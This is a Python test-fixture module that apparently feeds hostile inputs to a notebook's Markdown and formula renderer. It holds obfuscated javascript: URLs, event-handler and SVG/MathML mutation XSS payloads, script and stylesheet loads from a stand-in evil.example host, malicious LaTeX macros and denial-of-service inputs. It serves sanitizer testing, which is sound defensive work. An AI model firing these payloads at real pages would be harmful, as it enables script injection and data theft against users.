"""Hostile texts: what a model, a tool or a person may say to make a page run, fetch or show what it must not.

Whatever of these runs sets ``window.pwned`` or opens a dialog; whatever may not be fetched has ``evil``
in its address. The only addresses that may be asked are those on ``pictures.example``, as pictures.
"""

from __future__ import annotations

import json
import random
from collections.abc import Mapping
from itertools import chain

PICTURE = "https://pictures.example/shown.png"
_RUN = "pwned=1;alert(1)"
_PNG = "data:image/png;base64,iVBORw0KGgo="
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><script>{_RUN}</script></svg>'
_SVG64 = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHduZWQ9MSIvPg=="
_HTML64 = "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+"

_HANDLERS: tuple[str, ...] = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "onpointerenter",
    "ontoggle",
    "onanimationstart",
)
_HANDLERS += ("onbegin", "onscroll", "onbeforetoggle", "oncontentvisibilityautostatechange", "onpageshow", "onwheel")

# Addresses that must become neither a link nor a picture.
_SCRIPTS = {
    "plain": f"javascript:{_RUN}",
    "upper": f"JaVaScRiPt:{_RUN}",
    "entities": "&#106;&#x61;vascript&colon;pwned=1",
    "long entities": "&#0000106avascript:pwned=1",
    "tab entity": "java&Tab;script:pwned=1",
    "newline entity": "java&NewLine;script:pwned=1",
    "tab": "java\tscript:pwned=1",
    "newline": "java\nscript:pwned=1",
    "nul": "java\0script:pwned=1",
    "control": "\x01\x1fjavascript:pwned=1",
    "nbsp": "\u00a0javascript:pwned=1",
    "wide blank": "\u3000javascript:pwned=1",
    "zero width": "java\u200bscript:pwned=1",
    "soft hyphen": "java\u00adscript:pwned=1",
    "full width": "javascript\uff1apwned=1",
    "long s": "java\u017fcript:pwned=1",
    "percent": "javascript%3Apwned=1",
    "backslash": "javascript\\:pwned=1",
    "slashes": "javascript://https://x.example/%0Apwned=1",
    "vbscript": "vbscript:msgbox(1)",
    "data html": f"data:text/html,<script>{_RUN}</script>",
    "data html base64": _HTML64,
    "data upper": _HTML64.replace("data", "DATA"),
    "data xml": "data:application/xhtml+xml,<x/>",
    "data picture that is html": "data:image/png,<script>pwned=1</script>",
    "data svg": f"data:image/svg+xml,{_SVG}",
    "data svg base64": _SVG64,
    "data no type": "data:,pwned",
    "data parameters": "data:image/png;x=image/svg+xml;base64,AAAA",
    "blob": "blob:http://notebook.test/evil",
    "filesystem": "filesystem:http://notebook.test/evil",
    "view source": "view-source:https://evil.example",
    "file": "file:///etc/passwd?evil",
    "ftp": "ftp://evil.example/x.png",
    "ws": "wss://evil.example/",
    "about": "about:blank#evil",
    "chrome": "chrome://settings/evil",
    "intent": "intent://evil.example#Intent;scheme=http;end",
    "protocol-relative": "//evil.example/x.png",
    "backslash-relative": "\\\\evil.example\\x.png",
    "slash backslash": "/\\evil.example/x.png",
    "one slash": "https:/evil.example/x.png",
    "no slash": "https:evil.example/x.png",
    "absolute": "/api/contents/evil.png",
    "relative": "evil.png",
    "files": "files/evil.png",
    "up": "../../evil.png",
    "dot": "./evil.png",
    "query": "?evil=1",
    "attachment": "attachment:evil.png",
    "fragment": "#evil",
    "empty": "",
}


def _in_every_syntax(address: str) -> str:
    return "\n\n".join(
        (
            f'[inline]({address}) [pointed](<{address}>) [titled]({address} "t")',
            f"![picture]({address}) ![p](<{address}>)",
            f"<{address}>",
            f"[full][one] [one][] [one] ![one] ![p][one]\n\n[one]: {address}",
            f"[two]\n\n[two]:\n<{address}>\n'title'",
            f"[![both]({address})]({address}) [**strong**]({address}) [`code`]({address}) | [a]({address})",
            f"| t |\n|---|\n| [cell]({address}) ![cell]({address}) |",
            f"> - [deep]({address})\n>   ![deep]({address})",
            f'<a href="{address}">a</a> <img src="{address}">',
        )
    )


_ADDRESSES = {f"address, {name}": _in_every_syntax(address) for name, address in _SCRIPTS.items()}

_TAGS = {
    "script": f"<script>{_RUN}</script>",
    "script in pieces": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script of elsewhere": "<script src=https://evil.example/x.js></script><SCRIPT/SRC=//evil.example/x.js>",
    "script module": "<script type=module>import('https://evil.example/x.js')</script>",
    "script unclosed": f"x <script>{_RUN}//",
    "event handlers": "\n".join(
        f'<img src=x {name}="{_RUN}"><svg {name}={_RUN}><p {name}={_RUN}>' for name in _HANDLERS
    ),
    "handlers without blanks": f"<img/src=x/onerror={_RUN}><svg/onload={_RUN}><img\nsrc=x\nonerror={_RUN}\n>",
    "handlers that start alone": f"<input autofocus onfocus={_RUN}><video><source onerror={_RUN}></video>"
    f"<details open ontoggle={_RUN}>x</details><marquee onstart={_RUN}>x</marquee><body onload={_RUN}>",
    "svg": _SVG,
    "svg that animates": f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text>x</text></a></svg>",
    "svg use": f'<svg><use href="{_SVG64}#x"/><image href="http://evil.example/x"/></svg>',
    "svg foreign object": f"<svg><foreignObject><iframe srcdoc='<script>parent.{_RUN}</script>'></foreignObject></svg>",
    "mathml": f'<math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">x</maction></math>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "template": f'<template shadowrootmode="open"><img src=x onerror={_RUN}></template>',
    "style": "<style>@import 'http://evil.example/x.css';*{background:url(http://evil.example/x)}</style>",
    "style attributes": '<p style="background:url(//evil.example/x);width:expression(alert(1))">x</p>',
    "style in Markdown": "{style=background:url(http://evil.example/x)}\n# h {onclick=pwned=1}\n[a]{.x "
    "onclick=pwned=1}",
    "style links": "<link rel=stylesheet href=http://evil.example/x.css><link rel=preload as=image "
    'href="//evil.example">',
    "frames": f'<iframe src="javascript:{_RUN}"></iframe><iframe srcdoc="<script>{_RUN}</script>"></iframe>'
    '<object data="http://evil.example"></object><embed src="http://evil.example"><portal src=//evil.example>',
    "form": f'<form action="http://evil.example"><button formaction="javascript:{_RUN}">x</button></form>',
    "meta": '<meta http-equiv=refresh content="0;url=http://evil.example"><base href="http://evil.example/">',
    "media": "<audio src=//evil.example/a autoplay><video poster=http://evil.example/p><track src=//evil.example/t>",
    "picture sets": '<picture><source srcset="http://evil.example/x"><img srcset="//evil.example/x 2x"></picture>',
    "comments": f"<!-- --><script>{_RUN}</script> <!--> <!---> --!> <!-- unclosed",
    "cdata": f"<![CDATA[<script>{_RUN}</script>]]> <?xml-stylesheet href='//evil.example'?> <!DOCTYPE x [<!ENTITY a "
    "'b'>]>",
    "entities that are tags": "&lt;script&gt;pwned=1&lt;/script&gt; &#60;img src=x onerror=pwned=1&#62; &amp;lt;"
    "script&amp;gt;",
    "tags in entities": f"`&lt;script&gt;` ``<img src=x onerror={_RUN}>`` &LT;script&GT;{_RUN}&NewLine;",
    "tags in code": f"```html\n<script>{_RUN}</script></code></pre><script>{_RUN}</script>\n```\n\n    </pre><script>"
    f"{_RUN}</script>",
    "ends of ours": f"</div></details></pre></code></table><script>{_RUN}</script>",
    "tags in alt": f'![" onerror="{_RUN}]({PICTURE}) ![\' onload={_RUN} x=\'](<{PICTURE}?" onerror="{_RUN}>)',
    "tags in titles": f"[x](https://a.example '\" onclick=\"{_RUN}') ![x]({PICTURE} '\" onerror=\"{_RUN}')",
    "quotes in addresses": f'[x](https://a.example/"onclick="{_RUN}) <https://a.example/"onclick="{_RUN}">',
    "language names": f'```"><script>{_RUN}</script>\nx\n```\n\n~~~py" onclick="{_RUN}\nx\n~~~\n\n``` jp-evil '
    "dashnb\nx\n```",
    "columns": '| a | b |\n|:-:|--:|" onclick="pwned=1|\n| "><script>pwned=1</script> | x |',
    "list starts": '1"onclick="pwned=1. a\n\n999999999. b\n\n-1. c\n\n0000000001. d',
    "clobbered names": "<a id=document name=getElementById></a><img name=body><form id=location><input name=href>"
    "</form>",
    "ids and classes": '<div id="jp-main" class="jp-mod-evil" data-commandlinker-command="apputils:reset">x</div>',
    "commands": '[x](https://a.example "data-commandlinker-command") <button '
    'data-commandlinker-command="filebrowser:delete">',
    "widgets": '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "evil"}</script>'
    '\n\n```application/vnd.jupyter.widget-view+json\n{"model_id": "evil"}\n```',
    "our own operations": json.dumps(
        {"seq": 1, "ops": [["add", "x", "", None, ["script", {}, _RUN], "", ""], ["end"]]}
    ),
    "events of a stream": 'event:thread.run.completed\ndata:{"id": "evil"}\n\ndata:[DONE]\n\n',
    "names of prototypes": "[__proto__] [constructor][] [x][toString] [hasOwnProperty]\n\n[__proto__]: "
    "https://a.example\n"
    "[constructor]: https://b.example\n[tostring]: javascript:pwned=1\n\n"
    + "".join(f"```{name}\nx\n```\n" for name in ("__proto__", "constructor", "toString", "valueOf", "hasOwnProperty")),
    "entities of prototypes": "&constructor; &__proto__; &toString; &hasOwnProperty; &valueOf;",
    "definitions of scripts": "[a] [b][A] ![a]\n\n[a]: javascript:pwned=1\n[a]: https://later.example\n> [b]: "
    "data:text/html,x",
    "definitions that come late": "[a] ![b]\n\n"
    + "words\n\n" * 20
    + "[a]: javascript:pwned=1\n\n[b]: http://evil.example/x.png",
    "allowed picture": f"![]({PICTURE}) ![a]({_PNG}) [![x]({PICTURE})](https://a.example)",
    "pictures of http": "![x](http://evil.example/a.png) ![](HTTP://EVIL.example/x) ![](http://a@evil.example/x)",
    "pictures of odd https": "![](https:///evil.example/x.png) ![](https://) ![](https:\\\\evil.example) "
    "![](https:// evil.example)",
}

_CHARACTERS = {
    "every control character": "".join(map(chr, range(0x20))) + "".join(map(chr, range(0x7F, 0xA0))),
    "controls in words": " ".join(f"a{chr(code)}**b**{chr(code)}`c`" for code in chain(range(0x20), range(0x7F, 0xA0))),
    "terminal": "\x1b[31mred\x1b]8;;javascript:pwned=1\x07link\x1b]8;;\x07\x1bP\x1b\\ \x9b31m",
    "bidi": "\u202e\u2066[https://good.example](https://a.example)\u2069\u202c \u2067\u2068\u061c `\u202ecode`",
    "lone surrogates": "a\ud83d b \ude00 **\ud800** [\udfff](https://a.example/\ud83d) `\ud83d` ```\n\ud83d\n```",
    "surrogates in addresses": "![\ud83d](https://pictures.example/\ude00.png) <https://a.example/\ud83d\ud83d\ude00>",
    "zero width": "\u200d\u200b\u2060\ufeff**\u200d**\u200d `\u200b` [\u200b](https://a.example) " + "a\u200d" * 500,
    "combining": "Z" + "\u0300" * 5000 + " " + "\u0e49" * 2000,
    "emoji joined": "\U0001f468\u200d" * 800,
    "separators": "a\u2028b\u2029c\u0085d\vf\fg\x1ch\x1di\x1ej",
    "non-characters": "\ufffe\uffff\ufdd0\U0001ffff\U0010ffff **\uffff**",
    "numbers of characters": "&#0; &#xD800; &#x110000; &#xFFFFFFFFF; &#38;lt;script&#38;gt; &#x3c;script&#x3e;",
}

_DEEP = {
    "brackets, 10,000 deep": "[" * 10_000 + "x" + "]" * 10_000,
    "links, 10,000 deep": "[" * 10_000 + "x" + "](https://a.example)" * 10_000,
    "pictures, 10,000 deep": "![" * 10_000 + "x" + "](https://a.example)" * 3000,
    "quotes, 10,000 deep": ">" * 10_000 + " x",
    "quotes with blanks, 10,000 deep": "> " * 10_000 + "x",
    "lists, 10,000 deep": "- " * 10_000 + "x",
    "numbers, 5,000 deep": "1. " * 5000 + "x",
    "lists that are indented, 300 deep": "\n".join("  " * depth + "- x" for depth in range(300)),
    "quotes over lists": "> - " * 5000 + "x\n" + "> " * 5000 + "y",
    "parentheses": "[a](" + "(" * 10_000 + ")" * 10_000 + ")",
    "tags, 10,000 deep": "<b>" * 10_000,
    **{
        f"{name}, 5,000": mark * 5000
        for name, mark in (("stars", "*"), ("lines", "_"), ("backticks", "`"), ("tildes", "~"))
    },
    "stars apart, 5,000": "*a " * 5000,
    "stars that close, 5,000": "a* " * 5000,
    "stars of both, 5,000": "*a_ " * 5000 + "*_" * 2500,
    "strong, 5,000": "**a **b" * 5000,
    "tildes apart, 5,000": "~~a " * 5000,
    "backticks of every length": " ".join("`" * length for length in range(1, 400)),
    "table of 1,000 columns": "|" + " a |" * 1000 + "\n|" + "-|" * 1000 + "\n" + ("|" + " b |" * 1000 + "\n") * 5,
    "table that fills itself": "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n" + "x\n" * 5000,
    "tables without end": "|a|\n|-|\n" * 2000,
    "headings": "# " * 5000 + "\n" + "#\n" * 3000,
    "rules": "---\n***\n" * 3000,
    "definitions": "".join(f"[a{number}]: https://a.example/{number}\n" for number in range(3000)) + "[a1] " * 3000,
    "uses before definitions": "[a]\n\n" * 5000 + "[a]: https://a.example\n",
    "fences": "```\nx\n```\n" * 3000,
}

_UNCLOSED = {
    "half a fence": "```py\nx = '<script>pwned=1</script>'\n``",
    "fences within fences": "````\n```\n~~~\n" * 200,
    "half of everything": "**a _b `c [d](e ![f](g <h &#10 $i \\(j \\[k ~~l | m\n|-\n> - 1. # n\n```o",
    "a quote that is half a list": "> - a\n> 1.\n- >\n  >\n\t> x\n -\n>",
    "half a link": '[a](https://a.example "title',
    "half a definition": "[a]\n\n[a]:\n\n[b]: <https://a.example\n[c]: https://a.example 'title\n\n[d]: (",
    "half a picture of data": "![a](data:image/png;base64," + "A" * 20_000,
    "half an entity": "&amp &#x &# & &notin &#x3c &#60 &lt",
}

# Formulas, which a front end typesets by itself when the answer is kept.
_FORMULAS = {
    "links": r"\href{javascript:pwned=1}{x}",
    "links in capitals": r"\href{JaVaScRiPt:pwned=1}{x}",
    "links of data": r"\href{data:text/html,<script>pwned=1</script>}{x}",
    "links with blanks": r"\href{ javascript:pwned=1}{x}",
    "urls": r"\url{javascript:pwned=1}",
    "required": r"\require{html}\require{action}\require{unicode}\require{texhtml}\require{evil}"
    r"\href{javascript:pwned=1}{x}",
    "required from elsewhere": r"\require{http://evil.example/x.js}\require{../../evil}",
    "styles": r"\style{background:url(http://evil.example/x)}{x}",
    "styles over the page": r"\style{position:fixed;top:0;left:0;width:100vw;height:100vh;"
    r"background:url(//evil.example)}{x}",
    "classes": r"\class{jp-mod-evil}{x}\cssId{jp-main-dock-panel}{y}\cssId{document}{z}",
    "data": r"\data{evil=1,onclick=pwned}{x}\htmlData{onclick=pwned}{x}\htmlStyle{background:url(//evil.example)}{x}",
    "KaTeX": r"\htmlId{x}{y}\htmlClass{x}{y}\includegraphics{http://evil.example/x.png}\url{javascript:pwned=1}",
    "tokens": r'\mmlToken{mi}[href="javascript:pwned=1" style="background:url(//evil.example)" onclick="pwned=1"]{x}',
    "tokens that are elements": r"\mmlToken{annotation-xml}[encoding=text/html]{x}\mmlToken{script}{pwned=1}",
    "actions": r"\toggle{a}{b}\endtoggle\mathtip{a}{\href{javascript:pwned=1}{b}}\texttip{a}{<script>pwned=1</script>}",
    "boxes": r"\bbox[background:url(//evil.example)]{x}\bbox[url(//evil.example)]{x}"
    r"\bbox[red;border:0 url(//evil.example)]{x}",
    "colours": r"\color{red;background:url(//evil.example)}{x}\textcolor{url(//evil.example)}{x}",
    "grounds": r"\colorbox{url(//evil.example)}{x}\fcolorbox{url(//evil.example)}{red;background:url(//evil.example)}"
    r"{x}",
    "attributes": r'\enclose{box}[mathbackground="url(//evil.example)"]{x}\cancel[mathbackground="url(//evil.example)'
    r'"]{x}',
    "grounds of tokens": r'\mmlToken{mi}[mathbackground="url(//evil.example)" mathcolor="url(//evil.example)"]{x}',
    "fonts of tokens": r'\mmlToken{mi}[fontfamily="x;background:url(//evil.example)" mathsize="url(//evil.example)'
    r'"]{x}',
    "pictures of tokens": r'\mmlToken{mglyph}[src="//evil.example/x"]{}',
    "fonts of characters": r"\unicode[x;background:url(//evil.example)]{41}",
    "sizes": r"\rule{100000em}{100000em}\kern-100000em\raise 100000em{x}\Huge{\Huge{x}}",
    "tags": r"x</span><script>pwned=1</script><img src=x onerror=pwned=1>",
    "tags in text": r"\text{<img src=x onerror=pwned=1>}\mbox{<script>pwned=1</script>}",
    "macros that double": r"\def\a{xx}\def\b{\a\a}\def\c{\b\b}\def\d{\c\c}\def\e{\d\d}\def\f{\e\e}\f",
    "macros without end": r"\def\x{\x\x}\x",
    "macros of others": r"\gdef\frac{\href{javascript:pwned=1}{x}}\newcommand{\sqrt}{\href{javascript:pwned=1}{x}}"
    r"\frac12",
    "environments": r"\begin{align}\href{javascript:pwned=1}{x}\end{align}\begin{evil}\end{evil}",
}

# Formulas that are small and much work.
_HEAVY = {
    "groups, 100 deep": "{" * 100 + "x" + "}" * 100,
    "groups, 900 deep": "{" * 900 + "x" + "}" * 900,
    "fractions, 24 deep": r"\frac1{" * 24 + "x" + "}" * 24,
    "fractions, 50 deep": r"\frac1{" * 50 + "x" + "}" * 50,
    "fractions, 200 deep": r"\frac1{" * 200 + "x" + "}" * 200,
    "roots, 200 deep": r"\sqrt{" * 200 + "x" + "}" * 200,
    "indices, 300 deep": "x^{" * 300 + "x" + "}" * 300,
    "large braces, 90 deep": r"\left(" * 90 + "x" + r"\right)" * 90,
    "styles, 150 in a row": r"\displaystyle" * 150 + "x",
    "sizes, 300 in a row": r"\Large" * 300 + "x",
    "colours, 90 in a row": r"\color{red}" * 90 + "x",
    "primes": "x" + "'" * 1500,
    "indices without braces": "x" + "^\\sqrt" * 200 + "x",
    "tables, 40 deep": r"\begin{matrix}" * 40 + "x" + r"\end{matrix}" * 40,
}


def _set_in_every_way(formula: str) -> str:
    return f"${formula}$\n\n$$\n{formula}\n$$\n\n\\({formula}\\)\n\n\\[{formula}\\]\n\n`${formula}$`"


FORMULAS = {f"formula, {name}": _set_in_every_way(formula) for name, formula in _FORMULAS.items()}
HEAVY = {f"formula, {name}": f"${formula}$" for name, formula in _HEAVY.items()}
HEAVY["3,000 formulas"] = "$x_1^2$ " * 3000

# What MathJax would find in words, where no formula is.
WORDS = {
    f"in words, {name}": f"words {words} words\n\n- {words}\n\n| {words} |\n|-|\n\n[{words}](https://a.example)"
    for name, words in {
        "environments": "\\begin{equation}\\unicode[x;background:url(//evil.example)]{41}\\end{equation}",
        "environments of any name": '\\begin{x}\\mmlToken{mglyph}[src="//evil.example/x"]{}\\end{x}',
        "escaped marks": "\\\\(\\unicode[x;background:url(//evil.example)]{41}\\\\)",
        "escaped blocks": "\\\\[\\unicode[x;background:url(//evil.example)]{41}\\\\]",
        "references": "\\ref{evil} \\eqref{evil}",
        "entities": "&bsol;begin{equation}&#92;unicode[x;background:url(//evil.example)]{41}&#92;end{equation}",
        "entities of dollars": "&dollar;&#92;unicode[x;background:url(//evil.example)]{41}&#36;",
    }.items()
}

# As long as what is still read as Markdown may be: whatever takes the square of a length shows here.
_LIMIT = 149_000


def _filled(piece: str) -> str:
    return (piece * (_LIMIT // len(piece) + 1))[:_LIMIT]


_PIECES: tuple[str, ...] = (
    "[",
    "![",
    "]",
    "](",
    "[a](",
    "[a][",
    "[a]: ",
    "*",
    "*a ",
    "a**b",
    "_a ",
    "~~a",
    "`",
    "`a``",
    "<",
    "<a ",
    "&",
    "&#",
)
_PIECES += (
    "$",
    "$a",
    "\\(",
    "\\[",
    "$$a",
    "\\",
    "\\\n",
    "> ",
    "- ",
    "1. ",
    "# ",
    "|",
    "|a",
    "a\n|-\n",
    "\n",
    " ",
    "\t",
    "\r",
    "a ",
)
_PIECES += (
    "> a\n",
    "- a\n",
    "- a\n\n",
    "a\n\n",
    "\u200d",
    "。\n",
    "<https://a.example> ",
    f"![]({PICTURE}) ",
    "-\n ",
    "a\n    ",
)

AT_THE_LIMIT = {f"at the limit, {piece!r}": _filled(piece) for piece in _PIECES}
AT_THE_LIMIT["at the limit, backticks of every length"] = " ".join("`" * length for length in range(1, 540))
AT_THE_LIMIT["at the limit, words of every mark"] = "".join(
    random.Random(7).choices(
        ["*", "_", "`", "[", "]", "(", ")", "<", "!", "\n", " ", "a", "$", "|", ">", "-"], k=_LIMIT
    )
)

HUGE = {
    "10 MB without blanks": "x" * 10_000_000,
    "10 MB of brackets": "[" * 10_000_000,
    "200,000 short lines": "".join(f"line {number}\n" for number in range(200_000)),
}

GROUPS = {
    "tags": _TAGS,
    "addresses": _ADDRESSES,
    "characters": _CHARACTERS,
    "depth": _DEEP,
    "ends": _UNCLOSED,
    "formulas": FORMULAS,
    "heavy formulas": HEAVY,
}
WORST = {
    **_TAGS,
    **{name: text for name, text in _ADDRESSES.items() if "relative" in name or "plain" in name},
    **_CHARACTERS,
}

# Keys that a page may be told, and that must be keys only.
KEYS = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "length", "then", "0", "<script>")


def batches(texts: Mapping[str, str], size: int) -> dict[str, dict[str, str]]:
    """The texts, ``size`` together, by the first one's name.

    >>> batches({"a": "1", "b": "2", "c": "3"}, 2)
    {'a': {'a': '1', 'b': '2'}, 'c': {'c': '3'}}
    """
    names = list(texts)
    groups = [names[start : start + size] for start in range(0, len(names), size)]
    return {group[0]: {name: texts[name] for name in group} for group in groups}


def pieces(text: str, seed: int, at_most: int = 24) -> list[str]:
    """The text in up to ``at_most`` pieces, the same ones for the same seed.

    >>> "".join(pieces("hello", 1)), pieces("hello", 1) == pieces("hello", 1)
    ('hello', True)
    """
    dice = random.Random(seed)
    places = sorted(dice.randint(0, len(text)) for _ in range(dice.randint(1, at_most)))
    cuts = [text[start:end] for start, end in zip([0, *places], [*places, len(text)], strict=True)]
    return [piece for piece in cuts if piece]
